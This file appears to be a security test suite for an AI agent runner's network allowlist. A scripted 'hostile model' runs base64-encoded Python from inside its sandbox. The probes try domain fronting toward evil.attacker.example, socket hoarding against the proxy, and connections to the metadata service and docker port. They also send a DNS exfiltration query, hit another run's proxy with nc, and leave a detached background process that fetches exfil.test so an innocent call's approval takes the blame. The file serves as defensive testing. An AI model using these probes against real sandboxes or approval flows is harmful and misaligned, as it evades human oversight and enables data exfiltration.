/**
 * Security review of issue #16 end to end: a hostile model drives a run with
 * sandbox.network: allowlist on the base image and attacks its egress from inside the
 * sandbox. Each assertion states the SAFE behaviour: a failure is a finding. Output of
 * every call is printed for the report.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdtempSync, readdirSync, rmSync } from "node:fs";
import http from "node:http";
import net from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, it } from "node:test";
import { FsArtifactStore } from "../artifacts/fs-artifact-store.ts";
import { type FileEventLog, openFileEventLog } from "../eventlog/file-event-log.ts";
import type { Policy } from "../kernel/policy-schema.ts";
import { networkName } from "../sandbox/docker-sandbox.ts";
import { bridgeName } from "../sandbox/egress-network.ts";
import { packWorkspace } from "../sandbox/workspace-archive.ts";
import { sandboxImage, testSandbox } from "../testing/docker.ts";
import { stubDriverDeps } from "../testing/driver-deps.ts";
import { allowlistPolicy, resolveTestNames } from "../testing/egress-fixtures.ts";
import { type OpenAiStub, type StubReply, startOpenAiStub } from "../testing/openai-stub.ts";
import { callReply, queueRun, sayReply } from "../testing/worker-fixtures.ts";
import { type DriverDeps, driveRun } from "./run-driver.ts";

let dir: string;
let log: FileEventLog;
let stub: OpenAiStub;
let script: StubReply[] = [];
let onAsk: ((n: number) => void) | undefined;
let asks = 0;
let cleanup: () => Promise<void>;
let label = "";
let deps: () => DriverDeps;
let policy: Policy;
let httpPort = 0;
let v6Port = 0;
let v6Hits = 0;
const seenHosts: string[] = [];
const servers: net.Server[] = [];

const listen = (s: net.Server, host = "127.0.0.1"): Promise<number> =>
  new Promise((resolve) => {
    servers.push(s);
    s.listen(0, host, () => resolve((s.address() as net.AddressInfo).port));
  });

/** A python program passed without quoting trouble. */
const py = (src: string) =>
  `python3 -c "import base64; exec(base64.b64decode('${Buffer.from(src).toString("base64")}'))"`;

before(async () => {
  dir = mkdtempSync(join(tmpdir(), "agentd-egress-attack-"));
  log = await openFileEventLog({ dir: join(dir, "log") });
  stub = await startOpenAiStub(() => {
    onAsk?.(++asks);
    return script.shift() ?? { status: 500, body: {} };
  });
  httpPort = await listen(
    http.createServer((req, res) => {
      seenHosts.push(String(req.headers.host));
      res.end(`upstream saw Host: ${req.headers.host}\n`);
    }),
  );
  v6Port = await listen(
    net.createServer((c) => {
      v6Hits++;
      c.end("host service on ::\n");
    }),
    "::",
  );
  const t = await testSandbox();
  cleanup = t.cleanup;
  label = t.label;
  policy = allowlistPolicy({ allow: ["allowed.test"], approval: "never" });
  const artifacts = new FsArtifactStore(join(dir, "artifacts"));
  deps = () =>
    stubDriverDeps(
      { log, policy: { ...policy }, sandbox: t.sandbox, artifacts, baseURL: stub.baseURL },
      {
        approvalHoldMs: 0,
        egress: { resolve: resolveTestNames },
      },
    );
});

after(async () => {
  for (const s of servers) s.close();
  await cleanup?.();
  await stub?.close();
  await log?.close();
  rmSync(dir, { recursive: true, force: true });
});

const FRONT = `
import os, socket
gw, port = os.environ["HTTP_PROXY"].split("//")[1].split(":")
s = socket.create_connection((gw, int(port)))
s.sendall(b"GET http://allowed.test:@PORT@/x HTTP/1.1\\r\\nHost: evil.attacker.example\\r\\nConnection: close\\r\\n\\r\\n")
print("FRONT", s.recv(4096).decode().split("\\r\\n\\r\\n")[-1])
`;

const HOARD = `
import os, socket, time, resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
gw, port = os.environ["HTTP_PROXY"].split("//")[1].split(":")
held = []
for i in range(3000):
    try:
        s = socket.create_connection((gw, int(port)), 5)
        s.sendall(b"CONNECT not-a-target HTTP/1.1\\r\\n\\r\\n")
        held.append(s)
    except Exception as x:
        print("STOPPED AT", i, x); break
def first(s):
    try:
        return s.recv(64)
    except Exception as x:
        return repr(x).encode()
answered = sum(1 for s in held if first(s).startswith(b"HTTP/1.1 400"))
print("HOARD", len(held), "sockets held,", answered, "answered 400; fd limit", hard)
time.sleep(8)
`;

const PROBE = `
import os, socket, struct
gw = os.environ["HTTP_PROXY"].split("//")[1].split(":")[0]
def tcp(h, p, fam=socket.AF_INET):
    try:
        s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
        s.connect((h, p) if fam == socket.AF_INET else (h, p, 0, 0)); print("REACHED", h, p, s.recv(64))
    except Exception as x:
        print("blocked", h, p, type(x).__name__)
tcp("169.254.169.254", 80)
tcp(gw, 22); tcp(gw, 2375); tcp(gw, @V6PORT@)
print("resolv.conf:", open("/etc/resolv.conf").read().replace("\\n", " | "))
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in "exfil-probe.example.com".split(".")) + b"\\x00\\x00\\x01\\x00\\x01"
for ns in ("127.0.0.11", gw):
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3); u.sendto(q, (ns, 53))
        r = u.recv(512); print("DNS", ns, "rcode", r[3] & 15, "answers", struct.unpack(">H", r[6:8])[0])
    except Exception as x:
        print("DNS", ns, type(x).__name__)
for line in open("/proc/net/if_inet6"): print("if_inet6", line.strip())
ll = "@LL@"
if ll: tcp(ll + "%eth0", @V6PORT@, socket.AF_INET6)
`;

it("a hostile model attacks its egress from inside the sandbox", async () => {
  const artifacts = new FsArtifactStore(join(dir, "artifacts"));
  const info = await artifacts.put(await packWorkspace([]));
  const run = await queueRun(log, {
    prompt: "attack",
    workspaceDigest: info.digest,
    workspaceSizeBytes: info.size,
  });
  const bridge = bridgeName(networkName(label, run.runId));
  const fds = () => readdirSync("/proc/self/fd").length;
  const fd0 = fds();
  let fdMax = fd0;
  const sampler = setInterval(() => {
    fdMax = Math.max(fdMax, fds());
  }, 100);
  let ll = "";
  onAsk = (n) => {
    if (n !== 3) return;
    try {
      const out = execFileSync("ip", ["-6", "-o", "addr", "show", "dev", bridge], {
        encoding: "utf8",
      });
      ll = /inet6 (fe80::[0-9a-f:]+)\//.exec(out)?.[1] ?? "";
    } catch {
      ll = "";
    }
    script[0] = callReply("c3", "process.run", {
      command: py(PROBE.replaceAll("@V6PORT@", String(v6Port)).replaceAll("@LL@", ll)),
    });
  };
  script = [
    callReply("c1", "process.run", { command: py(FRONT.replaceAll("@PORT@", String(httpPort))) }),
    callReply("c2", "process.run", { command: py(HOARD), timeoutMs: 120_000 }),
    callReply("c3", "process.run", { command: "true" }),
    sayReply("done"),
  ];
  const outcome = await driveRun(
    deps(),
    run.runId,
    await log.bumpEpoch(run.runId),
    new AbortController().signal,
  );
  clearInterval(sampler);
  onAsk = undefined;
  const events = await log.read(run.runId, 0);
  const out = (id: string) => {
    const r = events.find(
      (e) => e.event.payload.case === "toolResult" && e.event.payload.value.callId === id,
    );
    return r === undefined
      ? ""
      : JSON.parse((r.event.payload.value as { outputJson: string }).outputJson);
  };
  for (const id of ["c1", "c2", "c3"]) {
    const r = (out(id) as { result?: { stdout?: string; stderr?: string } }).result;
    console.log(`--- ${id}\n${r?.stdout ?? ""}${(r?.stderr ?? "").slice(-600)}`);
  }
  const netEvents = events.filter((e) => e.event.payload.case === "networkRequest").length;
  console.log({ outcome, seenHosts, fdBefore: fd0, fdMax, netEvents, v6Hits, ll });

  // Proxy and rules gone with the run.
  const rules = execFileSync("iptables", ["-w", "5", "-S"], { encoding: "utf8" });
  console.log("rules of the bridge left:", rules.includes(`agentd-egress:${bridge}`));

  assert.equal(outcome, "completed");
  assert.ok(
    !seenHosts.includes("evil.attacker.example"),
    "plain-HTTP domain fronting: upstream got Host evil.attacker.example",
  );
  assert.ok(
    fdMax - fd0 < 500,
    `the worker held ${fdMax - fd0} more file descriptors while one sandbox hoarded refused CONNECTs`,
  );
  assert.equal(v6Hits, 0);
  assert.doesNotMatch(JSON.stringify(out("c3")), /REACHED/);
});

it("a container that is not the run's (here: one on the engine's default bridge) cannot use the run's proxy", async () => {
  const { testSandbox: make } = await import("../testing/docker.ts");
  const { ulid } = await import("ulid");
  const { TEST_LIMITS } = await import("../testing/docker.ts");
  const t = await make();
  const spec = (network: "egress" | "bridge") => ({
    runId: ulid(),
    tenantId: "acme",
    image: sandboxImage("test"),
    limits: TEST_LIMITS,
    network,
  });
  const a = await t.sandbox.create(spec("egress"));
  const c = await t.sandbox.create(spec("bridge"));
  const gw = a.egress?.host as string;
  // Stands in for run A's proxy (which would add A's credentials and use A's approvals).
  const s = net.createServer((x) => x.end("run A's proxy answered\n"));
  await new Promise<void>((r) => s.listen(a.egress?.port as number, gw, r));
  try {
    const r = await c.exec({
      argv: ["sh", "-c", `nc -w 3 ${gw} ${a.egress?.port} </dev/null; echo rc=$?`],
      timeoutMs: 20_000,
      maxOutputBytes: 4096,
    });
    console.log(
      `from a container on docker0 to ${gw}:${a.egress?.port}: ${JSON.stringify(r.stdout)}`,
    );
    assert.doesNotMatch(r.stdout, /run A's proxy answered/);
  } finally {
    s.close();
    await c.destroy();
    await a.destroy();
    await t.cleanup();
  }
});

it("a network approval names the call and command that tried the host (a process left behind by an earlier call cannot borrow an innocent call's preview)", async () => {
  const saved = policy;
  policy = { ...policy, network: { ...policy.network, approval: "risk" } };
  try {
    const artifacts = new FsArtifactStore(join(dir, "artifacts"));
    const info = await artifacts.put(await packWorkspace([]));
    const run = await queueRun(log, {
      prompt: "x",
      workspaceDigest: info.digest,
      workspaceSizeBytes: info.size,
    });
    const later = Buffer.from(`
import time, urllib.request as u
time.sleep(4)
try: u.urlopen("http://exfil.test:${httpPort}/", timeout=5)
except Exception as x: pass
`).toString("base64");
    asks = 0;
    script = [
      callReply("d1", "process.run", {
        command: `echo ${later} | base64 -d > /tmp/l.py; setsid python3 /tmp/l.py >/dev/null 2>&1 </dev/null & echo started`,
      }),
      callReply("d2", "process.run", { command: "ls -la /workspace && sleep 8" }),
      sayReply("done"),
    ];
    const outcome = await driveRun(
      deps(),
      run.runId,
      await log.bumpEpoch(run.runId),
      new AbortController().signal,
    );
    const events = await log.read(run.runId, 0);
    const ask = events.find((e) => e.event.payload.case === "approvalRequested");
    const v = ask?.event.payload.value as
      | { callId: string; preview?: { summary: string; host: string } }
      | undefined;
    const nets = events
      .filter((e) => e.event.payload.case === "networkRequest")
      .map((e) => JSON.stringify(e.event.payload.value));
    const res = events
      .filter((e) => e.event.payload.case === "toolResult")
      .map((e) => (e.event.payload.value as { outputJson: string }).outputJson.slice(-300));
    console.log(nets, res);
    console.log({
      outcome,
      approval:
        v === undefined
          ? "none"
          : { callId: v.callId, host: v.preview?.host, summary: v.preview?.summary },
    });
    assert.ok(
      v === undefined || v.callId !== "d2",
      "the person is told the innocent call d2 (ls) asked for exfil.test",
    );
  } finally {
    policy = saved;
  }
});
